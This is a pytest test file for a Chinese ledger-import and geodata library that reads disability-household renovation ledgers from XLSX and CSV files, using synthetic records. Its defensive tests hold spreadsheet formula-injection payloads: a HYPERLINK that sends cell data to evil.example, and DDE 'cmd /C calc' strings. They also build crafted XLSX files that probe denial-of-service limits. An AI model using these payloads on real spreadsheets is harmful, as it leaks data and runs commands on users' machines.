from __future__ import annotations

import csv
import gc
import io as stdlib_io
import json
import os
import random
import string
import subprocess
import sys
import warnings
import zipfile
from datetime import date, datetime
from pathlib import Path

import geopandas as gpd
import openpyxl
import pandas as pd
import pytest
from openpyxl.utils import get_column_letter

from geo.datums import convert
from layers import io as lio
from layers import validate as v
from layers.district import load_district
from layers.errors import FileLimitError, UnreadableFileError
from layers.idcard import id_check_char
from layers.validate import validate_layer

TODAY = date(2024, 6, 30)
ID_A = "500227194401116803"
ID_B = "50012019800229123" + id_check_char("50012019800229123")

HEADERS = ["序号", "编号", "姓名", "身份证号", "残疾人证号", "残疾类别", "残疾等级", "镇（街道）", "村（社区）",
           "详细地址", "联系电话", "改造需求", "改造状态", "经度", "纬度", "坐标系", "处理依据"]  # fmt: skip
ROW_A = [1, "H1", "张三", ID_A, ID_A + "41", "肢体", "一级", "璧城街道", "东林社区", "东林路1号", "13812345678",
         "坡道", "已摸底", 106.2, 29.6, "wgs84", "法定职责"]  # fmt: skip
ROW_B = [2, "H2", "李四", ID_B, ID_B + "12", "视力", "二级", "八塘镇", "石院村", "石院村3组", None,
         "扶手", "已审批", "106.25", "29.65", "GCJ-02", "单独同意"]  # fmt: skip


@pytest.fixture(scope="module")
def district(tmp_path_factory):
    folder = tmp_path_factory.mktemp("district")
    (folder / "district.toml").write_text(
        'code = "500120"\nname = "测试区"\nprojected_crs = "EPSG:32648"\n'
        '[files]\nboundary = "boundary.geojson"\ntowns = "towns.csv"\nvillages = "villages.csv"\n',
        encoding="utf-8",
    )
    ring = [[106.1, 29.5], [106.3, 29.5], [106.3, 29.7], [106.1, 29.7], [106.1, 29.5]]
    feature = {"type": "Feature", "properties": {}, "geometry": {"type": "Polygon", "coordinates": [ring]}}
    (folder / "boundary.geojson").write_text(json.dumps({"type": "FeatureCollection", "features": [feature]}))
    (folder / "towns.csv").write_text(
        "code,name,seat_lon,seat_lat\n500120001,璧城街道,106.2,29.6\n500120100,八塘镇,106.25,29.65\n", encoding="utf-8"
    )
    (folder / "villages.csv").write_text(
        "village_code,name,town_code,urban_rural_code,lon,lat\n500120001001,东林社区,500120001,111,106.2,29.6\n"
        "500120100202,石院村,500120100,220,106.26,29.66\n",
        encoding="utf-8",
    )
    return load_district(folder)


def _ledger(path, rows, *, id_as_number_row=None):
    """Write a 台账 as staff do: a merged title row, a note row, the header on row 3."""
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "台账"
    ws.append(["璧山区2024年重度残疾人家庭无障碍改造台账"])
    ws.merge_cells(start_row=1, start_column=1, end_row=1, end_column=len(HEADERS))
    ws.append(["填报单位：璧城街道", None, None, "填报日期：2024-06-30"])
    ws.append(HEADERS)
    for row in rows:
        ws.append(row)
    if id_as_number_row is not None:
        ws.cell(row=id_as_number_row, column=4).value = int(ID_A[:15] + "000")  # what Excel keeps
    wb.save(path)
    return path


def test_read_ledger_xlsx_finds_header_below_merged_title(tmp_path):
    path = _ledger(tmp_path / "台账.xlsx", [ROW_A, ROW_B, [None] * len(HEADERS), ROW_A[:1] + ["H4"] + ROW_A[2:]])
    table = lio.read_table(path)
    assert list(table.columns) == HEADERS
    assert table.index.name == "row"
    assert list(table.index) == [4, 5, 7]  # header on row 3, row 6 is empty
    assert table.loc[4, "身份证号"] == ID_A
    assert table.loc[5, "联系电话"] is None
    assert table.loc[4, "经度"] == 106.2


def test_ledger_xlsx_validates_with_spreadsheet_row_numbers(tmp_path, district):
    path = _ledger(tmp_path / "台账.xlsx", [ROW_A, ROW_B], id_as_number_row=5)
    result = validate_layer("household", lio.read_table(path), district=district, today=TODAY)
    assert [(p.row, p.column, p.rule) for p in result.problems] == [(5, "id_number", v.ID_NUMBER)]
    assert "15 digits" in result.problems[0].fix
    assert ID_A[:15] not in result.report()


def test_ledger_xlsx_clean_import_converts_gcj02(tmp_path, district):
    lon, lat = convert(106.25, 29.65, "wgs84", "gcj02")
    row_b = [*ROW_B[:13], lon, lat, *ROW_B[15:]]
    path = _ledger(tmp_path / "台账.xlsx", [ROW_A, row_b])
    result = validate_layer("household", lio.read_table(path), district=district, today=TODAY)
    assert result.ok, result.report()
    assert list(result.frame.index) == [4, 5]
    assert result.frame.loc[5, "lon"] == pytest.approx(106.25, abs=1e-6)
    assert result.frame.loc[5, "datum"] == "gcj02"
    assert result.frame["id"].tolist() == ["H1", "H2"]  # 编号 wins over 序号
    assert "序号" in result.ignored_columns


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "gb18030"])
def test_read_csv_encodings_and_title_row(tmp_path, encoding):
    text = "璧山区康复站台账,,,\n编号,名称,镇街,状态\nR1,东林康复站,璧城街道,运营\n,,,\nR2,石院康复站,八塘镇,规划\n"
    path = tmp_path / "stations.csv"
    path.write_bytes(text.encode(encoding))
    table = lio.read_table(path)
    assert list(table.columns) == ["编号", "名称", "镇街", "状态"]
    assert list(table.index) == [3, 5]
    assert table["名称"].tolist() == ["东林康复站", "石院康复站"]


def _two_row_sheet(path, top, sub, rows):
    """Write a ledger whose header is on rows 2 and 3: groups merged across, the other labels merged down."""
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(["璧山区2024年重度残疾人家庭无障碍改造台账"])
    ws.merge_cells(start_row=1, start_column=1, end_row=1, end_column=len(top))
    ws.append(top)
    ws.append(sub)
    for j, (upper, lower) in enumerate(zip(top, sub, strict=True), start=1):
        if upper is not None and lower is None:
            ws.merge_cells(start_row=2, start_column=j, end_row=3, end_column=j)
    for row in rows:
        ws.append(row)
    wb.save(path)
    return path


def test_a_header_on_two_rows_reads_as_one_xlsx_and_csv(tmp_path, district):
    # 残疾情况 over 类别 and 等级 (joined: 残疾类别, 残疾等级), 坐标 over 经度 and 纬度 (known alone)
    top = [*HEADERS[:5], "残疾情况", None, *HEADERS[7:13], "坐标", None, *HEADERS[15:]]
    sub = [None] * 5 + ["类别", "等级"] + [None] * 6 + ["经度", "纬度"] + [None] * 2
    xlsx = lio.read_table(_two_row_sheet(tmp_path / "台账.xlsx", top, sub, [ROW_A, ROW_B]))
    assert list(xlsx.columns) == HEADERS
    assert list(xlsx.index) == [4, 5]  # the data start under both header rows
    assert xlsx.loc[4, "残疾类别"] == "肢体"
    assert xlsx.loc[4, "经度"] == 106.2
    result = validate_layer("household", xlsx, district=district, today=TODAY)
    assert result.ok, result.report()

    # the same sheet saved as CSV: a merged cell's value in its first cell, the others empty
    lines = [["璧山区台账", *[""] * 16], top, sub, ROW_A, ROW_B]
    text = "\n".join(",".join("" if c is None else str(c) for c in line) for line in lines) + "\n"
    (tmp_path / "台账.csv").write_text(text, encoding="utf-8-sig")
    csv_table = lio.read_table(tmp_path / "台账.csv")
    assert list(csv_table.columns) == HEADERS
    assert list(csv_table.index) == [4, 5]
    assert csv_table.loc[5, "残疾等级"] == "二级"


def test_a_header_whose_first_row_holds_only_groups_is_found_from_its_second(tmp_path):
    # the first row names one known column (序号), too few to be found as the header: the second row is
    # found, and the row above it is its first row
    top = ["序号", "基本信息", None, None, "残疾情况", None, "位置", None, None, None]
    sub = [None, "姓名", "身份证号", "残疾人证号", "类别", "等级", "镇（街道）", "村（社区）", "经度", "纬度"]
    row = [1, "张三", ID_A, ID_A + "41", "肢体", "一级", "璧城街道", "东林社区", 106.2, 29.6]
    table = lio.read_table(_two_row_sheet(tmp_path / "台账.xlsx", top, sub, [row]))
    assert list(table.columns) == ["序号", "姓名", "身份证号", "残疾人证号", "残疾类别", "残疾等级", "镇（街道）",
                                   "村（社区）", "经度", "纬度"]  # fmt: skip
    assert list(table.index) == [4]
    assert table.loc[4, "身份证号"] == ID_A


def test_rows_next_to_a_header_that_are_no_second_header_row_stay_as_they_are(tmp_path):
    # a note above the header (over a column without a label), and a data row of text whose last cell
    # stands under no label: neither joins the header
    text = "填报单位：璧城街道,,,单位：户\n编号,名称,镇街,\nR1,东林康复站,璧城街道,附页\nR2,石院康复站,八塘镇,\n"
    (tmp_path / "stations.csv").write_text(text, encoding="utf-8")
    table = lio.read_table(tmp_path / "stations.csv")
    assert list(table.columns) == ["编号", "名称", "镇街", "(D)"]
    assert list(table.index) == [3, 4]
    assert table["名称"].tolist() == ["东林康复站", "石院康复站"]


def test_the_first_sheet_with_a_header_is_read_unless_a_sheet_is_named(tmp_path):
    def workbook(name, sheets):
        wb = openpyxl.Workbook()
        wb.remove(wb.active)
        for title, rows in sheets:
            ws = wb.create_sheet(title)
            for row in rows:
                ws.append(row)
        wb.save(tmp_path / name)
        return tmp_path / name

    notes = ("填表说明", [["填表说明"], ["1. 身份证号请设为文本格式"]])
    path = workbook("a.xlsx", [notes, ("台账", [HEADERS, ROW_A, ROW_B]), ("另一个台账", [HEADERS, ROW_B])])
    table = lio.read_table(path)
    assert list(table.columns) == HEADERS
    assert list(table.index) == [2, 3]  # the second sheet's rows (the third sheet is not read)
    assert table.attrs[lio.SHEET_ATTR] == ("填表说明", "台账")
    named = lio.read_table(path, sheet="填表说明")  # a sheet named is read as it is
    assert list(named.columns) == ["填表说明"]
    assert lio.SHEET_ATTR not in named.attrs

    first = lio.read_table(workbook("b.xlsx", [("台账", [HEADERS, ROW_A]), ("另一个台账", [HEADERS, ROW_B])]))
    assert first["编号"].tolist() == ["H1"]
    assert lio.SHEET_ATTR not in first.attrs
    # no sheet has a header: the first sheet, as before (validation then names the missing columns)
    none = lio.read_table(workbook("c.xlsx", [notes, ("代码表", [["璧城街道", "500120001"]])]))
    assert list(none.columns) == ["填表说明"]
    assert lio.SHEET_ATTR not in none.attrs


@pytest.mark.parametrize(
    ("delimiter", "name"), [("\t", "制表符 (tab)"), (";", "分号 (semicolon)"), ("|", "竖线 (bar)")]
)
def test_text_tables_separated_by_tabs_semicolons_or_bars(tmp_path, delimiter, name):
    # as systems export them: a title line, then tab- (or ;- or |-) separated cells, a comma inside a cell
    lines = ["康复站台账", "编号|名称|镇街|状态", "R1|东林康复站, 东楼|璧城街道|运营", "R2|石院康复站|八塘镇|规划"]
    path = tmp_path / "stations.txt"
    path.write_text("\r\n".join(line.replace("|", delimiter) for line in lines) + "\r\n", encoding="gb18030")
    table = lio.read_table(path)
    assert list(table.columns) == ["编号", "名称", "镇街", "状态"]
    assert list(table.index) == [3, 4]
    assert table["名称"].tolist() == ["东林康复站, 东楼", "石院康复站"]
    assert table.attrs[lio.DELIMITER_ATTR] == name
    assert table.attrs[lio.ENCODING_ATTR] == "GBK/GB18030"


def test_a_comma_separated_table_stays_comma_separated_when_cells_hold_tabs(tmp_path):
    path = tmp_path / "stations.csv"
    path.write_text("编号,名称,镇街\nR1,东林\t康复站,璧城街道\n", encoding="utf-8")
    table = lio.read_table(path)
    assert table["名称"].tolist() == ["东林\t康复站"]
    assert lio.DELIMITER_ATTR not in table.attrs


def test_cells_merged_down_over_data_rows_are_filled_down_and_nothing_else(tmp_path):
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(["台账"])
    ws.merge_cells("A1:D1")  # the title: not filled
    ws.append(["编号", "名称", "镇街", "备注"])
    for row in (
        ["R1", "东林站", "璧城街道", "合并说明"],
        ["R2", "石院站"],
        [],
        ["R4", "文星站"],
        ["R5", "八塘站", "八塘镇"],
    ):
        ws.append(row)
    ws.merge_cells("C3:C6")  # 璧城街道 over rows 3-6 (row 5 is blank: it stays blank)
    ws.merge_cells("D3:E3")  # across columns: only its first cell holds the note
    wb.save(tmp_path / "merged.xlsx")
    table = lio.read_table(tmp_path / "merged.xlsx")
    assert list(table.columns) == ["编号", "名称", "镇街", "备注"]
    assert list(table.index) == [3, 4, 6, 7]
    assert table["镇街"].tolist() == ["璧城街道", "璧城街道", "璧城街道", "八塘镇"]
    assert table.attrs[lio.MERGED_ATTR] == [4, 6]


def test_overlapping_merged_cells_make_the_file_damaged(tmp_path):
    # Excel never writes them; a crafted file declaring the same merge again and again must not fill
    # more cells than the sheet holds
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(["编号", "名称", "镇街"])
    for i in range(3):
        ws.append([f"R{i}", "站", "璧城街道" if i == 0 else None])
    wb.save(tmp_path / "m.xlsx")
    with zipfile.ZipFile(tmp_path / "m.xlsx") as zin, zipfile.ZipFile(tmp_path / "bad.xlsx", "w") as zout:
        for item in zin.infolist():
            data = zin.read(item)
            if item.filename == "xl/worksheets/sheet1.xml":
                merges = '<mergeCell ref="C2:C4"/>' * 10
                data = data.replace(
                    b"</sheetData>", f'</sheetData><mergeCells count="10">{merges}</mergeCells>'.encode()
                )
            zout.writestr(item, data)
    with pytest.raises(UnreadableFileError, match=r"已损坏（合并单元格相互重叠）.*merged cells overlap"):
        lio.read_table(tmp_path / "bad.xlsx")


def test_a_groups_labels_never_take_a_column_the_header_names_and_data_rows_stay_data(tmp_path):
    # 监护人情况 over 姓名 and 与残疾人关系: the guardian's name is not the household's 姓名
    top = ["残疾人姓名", "身份证号", "残疾情况", None, "监护人情况", None]
    sub = [None, None, "类别", "等级", "姓名", "与残疾人关系"]
    row = ["张三", ID_A, "肢体", "一级", "张大山", "父子"]
    table = lio.read_table(_two_row_sheet(tmp_path / "g.xlsx", top, sub, [row]))
    assert list(table.columns) == [
        "残疾人姓名",
        "身份证号",
        "残疾类别",
        "残疾等级",
        "监护人情况姓名",
        "监护人情况与残疾人关系",
    ]
    assert list(table.index) == [4]
    # a first data row whose cell under an unknown one-column label reads like a label (社区) is data
    text = "编号,名称,镇（街道）,管理单位\nAT-1,东林公厕,璧城街道,社区\nAT-2,石院公厕,八塘镇,镇政府\n"
    (tmp_path / "t.csv").write_text(text, encoding="utf-8")
    table = lio.read_table(tmp_path / "t.csv")
    assert list(table.columns) == ["编号", "名称", "镇（街道）", "管理单位"]
    assert list(table.index) == [2, 3]


def test_hidden_and_chart_sheets_are_passed_over(tmp_path):
    wb = openpyxl.Workbook()
    wb.active.title = "填表说明"
    wb.active.append(["填表说明"])
    lists = wb.create_sheet("下拉选项")
    lists.append(["残疾类别", "残疾等级", "改造状态", "处理依据"])
    lists.sheet_state = "hidden"
    wb.create_chartsheet("图表")
    wb.create_sheet("台账").append(HEADERS)
    wb["台账"].append(ROW_A)
    wb.save(tmp_path / "h.xlsx")
    table = lio.read_table(tmp_path / "h.xlsx")
    assert table.attrs[lio.SHEET_ATTR] == ("填表说明", "台账")
    assert table["编号"].tolist() == ["H1"]


def test_read_table_twice_gives_equal_frames(tmp_path):
    path = _ledger(tmp_path / "台账.xlsx", [ROW_A, ROW_B])
    pd.testing.assert_frame_equal(lio.read_table(path), lio.read_table(path))


def test_read_table_errors(tmp_path):
    with pytest.raises(ValueError, match=r"^'old.xls' 是旧版 Excel/WPS 工作簿：.*另存为 \.xlsx.*\(.*save it as \.xlsx"):
        lio.read_table(tmp_path / "old.xls")
    with pytest.raises(ValueError, match=r"^'map.kml' 不是可导入的文件类型：请用 \.csv、.*\(.* use one of "):
        lio.read_table(tmp_path / "map.kml")
    path = _ledger(tmp_path / "台账.xlsx", [ROW_A])
    with pytest.raises(ValueError, match=r"`sheet` 'Sheet9' is not in"):
        lio.read_table(path, sheet="Sheet9")
    polygons = gpd.GeoDataFrame(
        {"id": ["a"]}, geometry=gpd.GeoSeries.from_wkt(["POLYGON((0 0,1 0,1 1,0 0))"]), crs=4326
    )
    polygons.to_file(tmp_path / "p.geojson", driver="GeoJSON", engine="pyogrio")
    with pytest.raises(ValueError, match=r"含有 \['Polygon'\] 几何.*\['Polygon'\] geometries; point layers need Point"):
        lio.read_table(tmp_path / "p.geojson")
    with pytest.raises(ValueError, match=r"`path` must end in one of"):
        lio.write_layer(pd.DataFrame({"lon": [1.0], "lat": [2.0]}), tmp_path / "x.kml")


def _clean(layer, table, district):
    result = validate_layer(layer, table, district=district, today=TODAY)
    assert result.ok, result.report()
    return result.frame


@pytest.fixture(scope="module")
def households(district, tmp_path_factory):
    path = _ledger(tmp_path_factory.mktemp("ledger") / "台账.xlsx", [ROW_A, ROW_B])
    return _clean("household", lio.read_table(path), district)


@pytest.fixture(scope="module")
def toilets(district):
    table = pd.DataFrame(
        {
            "id": ["T1", "T2"],
            "name": ["东林路公厕", "石院村公厕"],
            "town_code": ["500120001", "500120100"],
            "status": ["under_construction", "accepted"],
            "build_type": ["rebuild", "new"],
            "lon": [106.2, 106.26],
            "lat": [29.6, 29.66],
            "datum": ["wgs84", "bd09"],
            "door_clear_width_mm": [850, None],
            "turning_diameter_m": [1.55, None],
            "call_button": [True, False],
            "survey_date": ["2024-06-03", None],
        }
    )
    return _clean("accessible_toilet", table, district)


@pytest.mark.parametrize("suffix", [".csv", ".xlsx", ".geojson", ".gpkg", ".shp"])
@pytest.mark.parametrize("layer", ["household", "accessible_toilet"])
def test_write_read_round_trip(tmp_path, district, households, toilets, suffix, layer):
    frame = households if layer == "household" else toilets
    path = lio.write_layer(frame, tmp_path / f"{layer}{suffix}")
    back = _clean(layer, lio.read_table(path), district)
    pd.testing.assert_frame_equal(
        back.reset_index(drop=True), frame.reset_index(drop=True), check_exact=False, atol=1e-9, rtol=0
    )


def test_written_files_keep_chinese_and_source_datum(tmp_path, households):
    raw = lio.write_layer(households, tmp_path / "h.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # BOM, so Excel reads UTF-8
    assert "张三".encode() in raw
    table = lio.read_table(tmp_path / "h.csv")
    assert "source_datum" in table.columns and "datum" not in table.columns
    gpkg = gpd.read_file(lio.write_layer(households, tmp_path / "h.gpkg", layer_name="household"), layer="household")
    assert gpkg.crs.to_epsg() == 4326
    assert gpkg.geometry.x.tolist() == pytest.approx(households["lon"].tolist())


def test_write_features_keeps_lines_and_polygons_in_one_geopackage(tmp_path):
    import pyogrio
    import shapely

    from layers.io import write_features

    lines = gpd.GeoDataFrame({"piece": [1]}, geometry=[shapely.LineString([(500000, 3300000), (500100, 3300000)])],
                             crs="EPSG:32648")  # fmt: skip
    hexes = gpd.GeoDataFrame({"hex_id": ["0_0"]}, geometry=[shapely.Point(106.2, 29.6).buffer(0.01)], crs=4326)
    path = tmp_path / "gaps.gpkg"
    write_features(lines, path, layer_name="gap_segments")
    write_features(hexes, path, layer_name="gap_hexagons", append=True)
    assert pyogrio.list_layers(path).tolist() == [["gap_segments", "LineString"], ["gap_hexagons", "Polygon"]]
    back = gpd.read_file(path, layer="gap_segments")
    assert back.crs.to_epsg() == 4326 and back.geometry.iloc[0].length == pytest.approx(0.001, rel=0.1)
    with pytest.raises(ValueError, match=r"\.gpkg or \.geojson"):
        write_features(hexes, tmp_path / "x.csv", layer_name="h")


def test_csv_fast_path_reads_the_same_table_as_the_csv_module(tmp_path):
    text = (
        '璧山区 2024 台账,,\r\n\r\n编号,姓名,经度,纬度\n 1 ,"a\nb",106.2,\n\n2,  ,"q""uote",29\n'
        '3,ab"c,"d"e\n4\n,,,\n"5",\t,,\r\n6,x,y,z,extra,,\n'
    )
    path = tmp_path / "awkward.csv"
    path.write_text(text, encoding="utf-8")
    table = lio.read_table(path)
    expected = lio._table_from_rows(list(csv.reader(stdlib_io.StringIO(text, newline=""))), path)
    pd.testing.assert_frame_equal(table, expected)
    assert list(table.index) == [4, 6, 7, 8, 10, 11]  # blank rows dropped, row numbers as the file shows them
    assert table.loc[4, "姓名"] == "a\nb" and table.loc[6, "经度"] == 'q"uote' and table.loc[6, "姓名"] is None
    assert list(table.columns) == ["编号", "姓名", "经度", "纬度", "(E)"]
    wider_later = tmp_path / "wider.csv"  # a row wider than the first 30: the csv-module path
    wider_later.write_text("id,name,lon,lat\n" + "1,a,1,2\n" * 40 + "2,b,3,4,5\n", encoding="utf-8")
    assert lio.read_table(wider_later).shape == (41, 5)


_EVIL = '=HYPERLINK("http://evil.example/?"&A1,"点击")'


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_written_text_never_runs_as_a_spreadsheet_formula(tmp_path, households, suffix):
    frame = households.copy()
    frame.loc[frame.index[0], "address"] = _EVIL
    frame.loc[frame.index[1], "address"] = "@SUM(1+1)*cmd|' /C calc'!A0"
    path = lio.write_layer(frame, tmp_path / f"h{suffix}")
    if suffix == ".xlsx":
        ws = openpyxl.load_workbook(path).active
        column = [c.value for c in ws[1]].index("address") + 1
        cells = [ws.cell(row=r, column=column) for r in (2, 3)]
        assert [c.data_type for c in cells] == ["s", "s"]  # text, not a formula ("f")
        values = [c.value for c in cells]
        lon = ws.cell(row=2, column=[c.value for c in ws[1]].index("lon") + 1).value
        assert isinstance(lon, float)  # numbers stay numbers
    else:
        rows = list(csv.DictReader(stdlib_io.StringIO(path.read_text(encoding="utf-8-sig"))))
        values = [rows[0]["address"], rows[1]["address"]]
    assert values == ["'" + _EVIL, "'@SUM(1+1)*cmd|' /C calc'!A0"]


def test_datum_conversion_output_never_runs_formulas(tmp_path):
    source = tmp_path / "in.csv"
    pd.DataFrame({"name": ["-1+cmd|' /C calc'!A0", "正常"], "lon": [106.2, 106.3], "lat": [29.6, 29.7],
                  "elevation": ["-12.5", "300"]}).to_csv(source, index=False)  # fmt: skip
    target = tmp_path / "out.xlsx"
    assert lio.convert_datum_file(source, target, src="gcj02", dst="wgs84") == 2
    ws = openpyxl.load_workbook(target).active
    assert [ws["A2"].value, ws["A2"].data_type, ws["D2"].value] == ["'-1+cmd|' /C calc'!A0", "s", "-12.5"]


# --- XLSX limits and damaged files ---------------------------------------------------------------

_CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/xl/workbook.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    '<Override PartName="/xl/worksheets/sheet1.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>'
)
_RELS = (
    '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
    'Target="xl/workbook.xml"/></Relationships>'
)
_WORKBOOK = (
    '<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets>'
    '<sheet name="台账" sheetId="1" r:id="rId1"/></sheets></workbook>'
)
_WORKBOOK_RELS = (
    '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" '
    'Target="worksheets/sheet1.xml"/></Relationships>'
)


def _raw_xlsx(path, rows, *, extra=None, body=None, prefix=""):
    """Write a minimal XLSX whose sheet holds ``rows`` (lists of XML ``<c>`` elements), fast, for big sheets.

    ``body`` gives the sheetData's XML instead; ``prefix`` (``"x:"``) the namespace prefix of the sheet's tags.
    """
    if body is None:
        body = "".join(f'<row r="{i}">{"".join(cells)}</row>' for i, cells in enumerate(rows, start=1))
    namespace = f"xmlns{':' + prefix[:-1] if prefix else ''}"
    sheet = (
        f'<?xml version="1.0" encoding="UTF-8"?><{prefix}worksheet {namespace}="http://schemas.openxmlformats.org/'
        f'spreadsheetml/2006/main"><{prefix}sheetData>{body}</{prefix}sheetData></{prefix}worksheet>'
    )
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("[Content_Types].xml", _CONTENT_TYPES)
        zf.writestr("_rels/.rels", _RELS)
        zf.writestr("xl/workbook.xml", _WORKBOOK)
        zf.writestr("xl/_rels/workbook.xml.rels", _WORKBOOK_RELS)
        zf.writestr("xl/worksheets/sheet1.xml", sheet)
        for name, data in (extra or {}).items():
            zf.writestr(name, data)
    return path


def _n(ref, value):
    return f'<c r="{ref}"><v>{value}</v></c>'


def _s(ref, text):
    return f'<c r="{ref}" t="inlineStr"><is><t>{text}</t></is></c>'


def test_xlsx_cells_keep_their_types(tmp_path):
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(["编号", "名称", "镇街", "数量", "面积", "日期", "有无", "备注"])
    ws.append(["T1", "  东林公厕 ", "璧城街道", 3, 1.5, datetime(2024, 6, 30), True, "   "])
    ws.append(["T2", None, "八塘镇", 4.0, -0.25, datetime(2024, 7, 1, 8, 30), False, "=1+1"])
    wb.save(tmp_path / "t.xlsx")
    table = lio.read_table(tmp_path / "t.xlsx")
    first, second = table.loc[2].tolist(), table.loc[3].tolist()
    assert first == ["T1", "东林公厕", "璧城街道", 3, 1.5, datetime(2024, 6, 30), True, None]
    assert [type(c) for c in first[3:7]] == [int, float, datetime, bool]
    assert second == ["T2", None, "八塘镇", 4, -0.25, datetime(2024, 7, 1, 8, 30), False, None]  # no cached value


def test_number_only_and_text_only_columns_read_as_cell_by_cell(tmp_path):
    # such columns are cleaned in one pass: whole numbers become exact ints even beyond int64, like `_cell`
    numbers = [3.0, 1e20, 2.0**63, -(2.0**63), -0.0, 1.5, 2.0**53 + 2]
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(["编号", "数量", "备注"])
    for i, x in enumerate(numbers):
        ws.append([f" T{i}", x, "  " if i % 2 else f" 备注{i} "])
    wb.save(tmp_path / "t.xlsx")
    table = lio.read_table(tmp_path / "t.xlsx")
    expected = [lio._cell(x) for x in numbers]
    assert table["数量"].tolist() == expected == [3, 10**20, 2**63, -(2**63), 0, 1.5, 2**53 + 2]
    assert [type(c) for c in table["数量"]] == [int, int, int, int, int, float, int]
    assert table["编号"].tolist() == [f"T{i}" for i in range(len(numbers))]
    assert table["备注"].tolist() == [None if i % 2 else f"备注{i}" for i in range(len(numbers))]
    cells, blank = lio._column_cells([float("nan"), 2.0, float("inf")], 3, text_only=False)
    assert cells.tolist() == [None, 2, float("inf")] and blank.tolist() == [False] * 3  # NaN: None, row not blank
    cells, blank = lio._column_cells(["a ", "", "   "], 3, text_only=True)
    assert cells.tolist() == ["a", None, None] and blank.tolist() == [False, True, True]


def test_xlsx_with_cells_in_column_xfd_is_refused_before_reading(tmp_path):
    """The issue's file: a value in column XFD on each of 8,000 rows (the old reader took 3.5 GB)."""
    rows = [[_s("A1", "编号"), _s("B1", "名称")]] + [[_s(f"A{i}", f"T{i}"), _n(f"XFD{i}", 1)] for i in range(2, 8001)]
    path = _raw_xlsx(tmp_path / "wide.xlsx", rows)
    with pytest.raises(FileLimitError, match=r"values in column XFD \(column 16,384\); imports read at most 256 "
                                             r"columns \(A to IV\)"):  # fmt: skip
        lio.read_table(path)


def test_xlsx_limits_on_rows_cells_and_sparse_ranges(tmp_path):
    rows = [[_s("A1", "编号"), _s("B1", "名称")]] + [[_s(f"A{i}", f"T{i}"), _n(f"B{i}", i)] for i in range(2, 102)]
    path = _raw_xlsx(tmp_path / "tall.xlsx", rows)
    assert lio.read_table(path).shape == (100, 2)
    with pytest.raises(FileLimitError, match=r"values beyond row 50 \(in row 101\); imports read at most 50 rows"):
        lio.read_table(path, limits=lio.ReadLimits(max_rows=50))
    with pytest.raises(FileLimitError, match=r"the used range A1:B101 has 202 cells; imports read at most 200"):
        lio.read_table(path, limits=lio.ReadLimits(max_cells=200))
    stray = _raw_xlsx(tmp_path / "stray.xlsx", [[_s("A1", "编号")], *([[]] * 9998), [_n("IV10000", 1)]])
    with pytest.raises(FileLimitError, match=r"A1:IV10000 has 2,560,000 cells but only 2 hold values"):
        lio.read_table(stray)


def test_limit_messages_come_in_chinese_first(tmp_path):
    rows = [[_s("A1", "编号"), _s("B1", "名称")]] + [[_s(f"A{i}", f"T{i}"), _n(f"XFD{i}", 1)] for i in range(2, 20)]
    path = _raw_xlsx(tmp_path / "wide.xlsx", rows)
    zh_first = r"^sheet .* of 'wide.xlsx'：XFD 列（第 16,384 列）有值，"
    zh_first += r"导入最多读取 256 列（A 到 IV）：请删除数据右侧的列"
    with pytest.raises(FileLimitError, match=zh_first + r"后重新保存。 \(sheet"):
        lio.read_table(path)
    (tmp_path / "empty.xlsx").write_bytes(b"")
    with pytest.raises(UnreadableFileError, match=r"^'empty.xlsx' 不是 XLSX 工作簿.*\('empty.xlsx' is not an XLSX"):
        lio.read_table(tmp_path / "empty.xlsx")


def test_csv_limits_on_size_rows_and_columns(tmp_path):
    """CSV ledgers get the XLSX limits: size (bytes), rows and columns, before the table is built."""
    path = tmp_path / "tall.csv"
    path.write_text("编号,名称\n" + "".join(f"T{i},名{i}\n" for i in range(100)), encoding="utf-8")
    assert lio.read_table(path).shape == (100, 2)
    too_many = r"^'tall.csv' 有 101 行，导入最多读取 50 行.*has 101 lines; imports read at most 50"
    with pytest.raises(FileLimitError, match=too_many):
        lio.read_table(path, limits=lio.ReadLimits(max_rows=50))
    with pytest.raises(FileLimitError, match=r"'tall.csv' 有 0 MB，导入最多读取 0 MB"):
        lio.read_table(path, limits=lio.ReadLimits(max_uncompressed_bytes=100))
    wide = tmp_path / "wide.csv"
    wide.write_text(",".join(f"c{i}" for i in range(300)) + "\n" + ",".join("1" * 300) + "\n", encoding="utf-8")
    with pytest.raises(FileLimitError, match=r"'wide.csv' 有 300 列，导入最多读取 256 列"):
        lio.read_table(wide)


def test_row_refs_with_leading_zeros_count_as_numbers(tmp_path):
    """A hostile ref "A009" is row 9, below "A10": the last row is 10 (the scan compares digits as numbers)."""
    rows = [[_s("A1", "编号")], [_s("A009", "T9")], [_s("A10", "T10")]]
    path = _raw_xlsx(tmp_path / "zeros.xlsx", rows)
    with pytest.raises(FileLimitError, match=r"values beyond row 9 \(in row 10\); imports read at most 9 rows"):
        lio.read_table(path, limits=lio.ReadLimits(max_rows=9))


